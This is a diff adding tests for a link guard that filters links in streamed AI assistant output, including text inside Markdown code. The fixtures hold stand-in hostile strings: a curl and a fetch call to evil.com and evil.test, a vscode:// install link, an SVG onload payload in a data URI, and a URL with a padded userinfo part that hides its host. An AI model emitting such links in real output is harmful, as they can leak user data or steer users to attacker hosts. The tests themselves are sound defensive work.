@@ -93,6 +93,10 @@ const harmless: readonly string[] = [
   '[docs.example.com](https://docs.example.com/api/) and [https://example.com](https://example.com).',
   'arn:aws:iam::123456789012:role/x, grid-template-rows:1fr, {rows:3}, windows:ltsc2022, news:x',
   String.raw`{"re":"\\w+"} and "\\d{3}" and '\\s*'`,
+  '[Open on example.com](https://example.com/x), [example.com][1] and a static [create](instance: Shop) method.',
+  'http:// and https:// and ui:// are schemes, and `HTTPS://…` too; a regular expression: /^data:/i.test(x), /^\\w+:\\/\\//.test(path).',
+  '{"//test": "off", "url": "git+https://example.com/shop.git"} options.lt, ctx.uk, t.id??w(x), C:\\\\abc',
+  'url: "https://example.com/x.svg?logo=data:image/svg+xml;base64,PHN2" and //# sourceMappingURL=data:application/json;base64,eyJ2',
   'logger.info("x"), agent.id, message.id, df.info(), spec.name, Dr.No, foo.bar/baz, Fig.1.to, a.b.click()',
   'See https://example.com/badge/runs%20on-deno.land/x.svg here.',
   'See https://example.com/docs?page=2 and https://www.example.com/a(b).',
@@ -181,6 +185,17 @@ describe('linkGuard', () => {
     expect((await streamed(allowed, pieces)).tripped).toBeDefined();
   });
 
+  it('passes text with the host * that no client turns into a link', async () => {
+    const long = `<img src="https://example.com/badge?logo=${'a'.repeat(3000)}">`;
+    const image = '![x](data:image/svg+xml;base64,PHN2Zz4=)';
+    const text = `Open http://localhost:\${PORT}, 'valkey://cache:6379' or dotenv://:key@example.com/x. ${long} ${image}`;
+    expect(emittedText((await streamed({ hosts: ['*'], maxCarried: Infinity }, [text])).emitted)).toBe(text);
+    expect((await streamed({ hosts: ['*'] }, ['[x](vscode://evil.x/install) y'])).tripped).toBeDefined();
+    expect((await streamed({ hosts: ['*'] }, ['<iframe src="data:image/svg+xml,<svg/onload=x()>">'])).tripped).toBeDefined();
+    const hidden = `https://${'a'.repeat(3000)}@evil.test/ x`;
+    expect((await streamed({ hosts: ['*'] }, [hidden])).tripped?.metadata).toMatchObject({ found: { 'too-long': 1 } });
+  });
+
   it('rejects an address that is too long, also to an allowed host', async () => {
     const text = `https://example.com/${'a'.repeat(3000)} x`;
     for (const pieces of [[text], text.match(/.{1,7}/gs) ?? []])
@@ -197,6 +212,49 @@ describe('linkGuard', () => {
 
   it.each([[{ hosts: ['https://x.test/a?b'] }], [{ hosts: ['*.*'] }], [{ schemes: ['https:'] }]])('rejects %j', (options) => {
     expect(() => linkGuard(options)).toThrow(expect.objectContaining({ code: 'guard/invalid-option' }) as Error);
+  });
+});
+
+const fence = '```';
+/** Text in code that no client turns into a link, and addresses in code that count nevertheless. */
+const code: readonly (readonly [text: string, isRejected: boolean])[] = [
+  [`Run:\n\n${fence}js\nfetch('evil.com/x?d=1');\n${fence}\nDone.`, false],
+  [`~~~\n${fence}\nevil.com/x\n~~~~\nDone.`, false],
+  [`${fence}\nreturn { rows: x.io/y, z: 'vscode://file', u: "javascript:x(1)" };\n${fence}\n`, false],
+  [`${fence}\nhttps://example.com@example.com/x http://localhost:\${PORT}/\n${fence}\n`, false],
+  ['The domain `evil.com/x` is one, and ``a ` evil.com/x`` too.', false],
+  ['A link is `[text](streamdown:incomplete)` here.', false],
+  [`${fence}\ncurl https://evil.test/x\n${fence}\n`, true],
+  [`${fence}\ncode\n${fence}\nevil.com/x is none`, true],
+  [`${fence}\n${'code\n'.repeat(300)}${fence}\nevil.com/x is none`, true],
+  [`${fence} a\`b\nevil.com/x is none`, true],
+  [`    ${fence}\nevil.com/x is none`, true],
+  [`${fence}${fence}\n${fence}\n${fence}${fence}\nevil.com/x is none`, true],
+  ['`a` evil.com/x `b`', true],
+  ['`a evil.com/x', true],
+  ['one ` two\n` evil.com/x ` three', true],
+  ['a \\` evil.com/x `', true],
+  ['<a title="`">evil.com/x</a title="`">', true],
+  [`\` evil.com/x ${'a'.repeat(300)} \``, true],
+];
+
+describe('linkGuard in Markdown code', () => {
+  itEvery(code)('%j', async (text, isRejected) => {
+    const options = { ...allowed, strategy: 'strip' as const };
+    const whole = emittedText((await streamed(options, [text])).emitted);
+    expect(whole.includes('[link removed]'), whole).toBe(isRejected);
+    for (const pieces of [...cutsOf(text), Array.from(text)]) {
+      expect(emittedText((await streamed(options, pieces)).emitted), pieces.join('|')).toBe(whole);
+    }
+    const { result } = await callHook(linkGuard(options), 'processOutputResult', { messages: [user('x'), assistant(text)] });
+    expect(result === undefined).toBe(!isRejected);
+  });
+
+  it.each(hosts)('%s: a fence over many chunks stays as it is, and text after it is checked', async (host) => {
+    const inside = `See\n\n${fence}ts\n${'const a = options.lt / x.io/y;\n'.repeat(40)}${fence}\n`;
+    const steps = [{ text: `${inside}and evil.com/x.`.match(/[^]{1,7}/g) ?? [] }];
+    const { text } = await runOn(host, { steps, guards: [linkGuard({ ...allowed, strategy: 'strip' })] });
+    expect(text).toBe(`${inside}and [link removed].`);
   });
 });
 
